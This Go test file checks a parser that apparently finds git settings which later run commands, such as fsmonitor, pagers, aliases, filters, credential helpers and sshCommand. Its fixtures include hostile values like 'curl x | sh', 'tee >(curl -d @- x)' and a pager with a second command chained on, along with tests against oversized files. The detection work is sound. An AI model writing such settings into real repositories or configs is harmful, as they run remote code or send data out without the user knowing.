package gitcmd

import (
	"fmt"
	"slices"
	"strings"
	"testing"
)

func show(rs []Run) string {
	var s []string
	for _, r := range rs {
		x := fmt.Sprintf("%s=%s@%d/%d/%v", r.Key, r.Text, r.Line, r.Arg, r.Filter)
		if r.Helper {
			x += "/true"
		}
		s = append(s, x)
	}
	return strings.Join(s, "; ")
}

// TestArgs: the settings a git command line makes that git runs later,
// and the settings that are not commands (a boolean, a plain alias, a
// value read back, a bare helper name).
func TestArgs(t *testing.T) {
	for _, tc := range []struct {
		args []string
		sub  int // the subcommand's index (tables.GitSubcommand)
		want string
	}{
		{[]string{"config", "--global", "core.fsmonitor", "sh -c 'curl x | sh'"}, 0, "core.fsmonitor=sh -c 'curl x | sh'@0/3/false"},
		{[]string{"config", "set", "--global", "core.sshCommand", "ssh -i k"}, 0, "core.sshcommand=ssh -i k@0/4/false"},
		{[]string{"-C", "repo", "config", "filter.nb.smudge", "tee x"}, 2, "filter.nb.smudge=tee x@0/4/true"},
		{[]string{"config", "--file", ".gitconfig", "Filter.NB.Clean", "cat"}, 0, "filter.NB.clean=cat@0/4/true"},
		{[]string{"config", "alias.up", "!curl x | sh"}, 0, "alias.up=curl x | sh@0/2/false"},
		{[]string{"config", "credential.helper", "!f() { cat; }; f"}, 0, "credential.helper=f() { cat; }; f@0/2/false/true"},
		{[]string{"-c", "core.pager=less; curl x", "log"}, 2, "core.pager=less; curl x@0/1/false"},
		{[]string{"config", "--add", "diff.json.textconv", "jq ."}, 0, "diff.json.textconv=jq .@0/3/false"},
		{[]string{"config", "core.fsmonitor", "true"}, 0, ""},
		{[]string{"config", "core.pager", "off"}, 0, ""},
		{[]string{"config", "alias.lg", "log --graph"}, 0, ""},
		{[]string{"config", "credential.helper", "store"}, 0, ""},
		{[]string{"config", "--get", "core.pager", "x"}, 0, ""},
		{[]string{"config", "filter.lfs.required", "true"}, 0, ""},
		{[]string{"config", "user.name", "sh -c x"}, 0, ""},
		{[]string{"log", "-c", "core.pager=x"}, 0, ""},
	} {
		if got := show(Args(tc.args, tc.sub)); got != tc.want {
			t.Errorf("Args(%q) = %q, want %q", tc.args, got, tc.want)
		}
	}
}

// TestFile: git's configuration format, in a file and in a Markdown
// block: sections with and without subsections, quotes, escapes,
// comments, continuation lines, a setting on the header's line.
func TestFile(t *testing.T) {
	for _, tc := range []struct {
		path, text, want string
	}{
		{".gitconfig", "[core]\n\tfsmonitor = \"sh -c 'curl x | sh'\" # fast\n", "core.fsmonitor=sh -c 'curl x | sh'@2/0/false"},
		{"conf/team.gitconfig", "[filter \"nb\"]\n  clean = tee >(curl -d @- x) ; comment\n  required = true\n", "filter.nb.clean=tee >(curl -d @- x)@2/0/true"},
		{"dot/.git/config", "[alias]\n  up = \"!f() { \\\n curl x | sh; }; f\"\n[user]\n  name = me\n", "alias.up=f() {  curl x | sh; }; f@2/0/false"},
		{"git/config", "[diff.json] textconv = jq .\n", "diff.json.textconv=jq .@1/0/false"},
		{".gitconfig", "[core]\n  pager = delta\n  fsmonitor = true\n[credential]\n  helper = store\n", "core.pager=delta@2/0/false"},
		{"settings.ini", "[core]\n  pager = curl x\n", ""},
		{"notes/config.md", "[core]\n  pager = curl x\n", ""},
	} {
		if got := show(File(tc.path, []byte(tc.text))); got != tc.want {
			t.Errorf("File(%s, %q) = %q, want %q", tc.path, tc.text, got, tc.want)
		}
	}
	for _, tc := range []struct {
		info, text, want string
	}{
		{"ini", "[filter \"nbslim\"]\n    clean = \"tee >(curl x)\"\n", "filter.nbslim.clean=tee >(curl x)@2/0/true"},
		{"", "[core]\nsshCommand = ssh -o ProxyCommand=x\n", "core.sshcommand=ssh -o ProxyCommand=x@2/0/false"},
		{"python", "[core]\npager = x\n", ""},
		{"gitconfig", "core.pager = x\n", ""},
	} {
		if got := show(Block(tc.info, tc.text)); got != tc.want {
			t.Errorf("Block(%s, %q) = %q, want %q", tc.info, tc.text, got, tc.want)
		}
	}
}

// TestBounds: a hostile file (a megabyte of headers, of continuation
// lines, of settings) is read once: the runs stay within maxRuns and
// a file past maxFile is not read at all.
func TestBounds(t *testing.T) {
	many := strings.Repeat("[alias]\n x = !curl y\n", 20000)
	if n := len(File(".gitconfig", []byte(many[:maxFile]))); n != maxRuns {
		t.Errorf("%d runs from a file of settings, want the bound %d", n, maxRuns)
	}
	if File(".gitconfig", []byte(many)) != nil {
		t.Error("a file past maxFile was read")
	}
	cont := "[core]\n pager = a" + strings.Repeat(" \\\n", 20000)
	if rs := File(".gitconfig", []byte(cont)); len(rs) != 1 {
		t.Errorf("continuations: %d runs", len(rs))
	}
	// Each line is visited once, whatever the file holds.
	for _, text := range []string{cont, many[:maxFile], strings.Repeat("[", maxFile), strings.Repeat("[a \"b\"]\n", 20000)} {
		if _, n := parse(text); n > strings.Count(text, "\n")+1 {
			t.Errorf("%d visits for %d lines", n, strings.Count(text, "\n")+1)
		}
	}
	args := append([]string{"config"}, slices.Repeat([]string{"-x"}, 100000)...)
	if Args(args, 0) != nil {
		t.Error("runs from options only")
	}
}
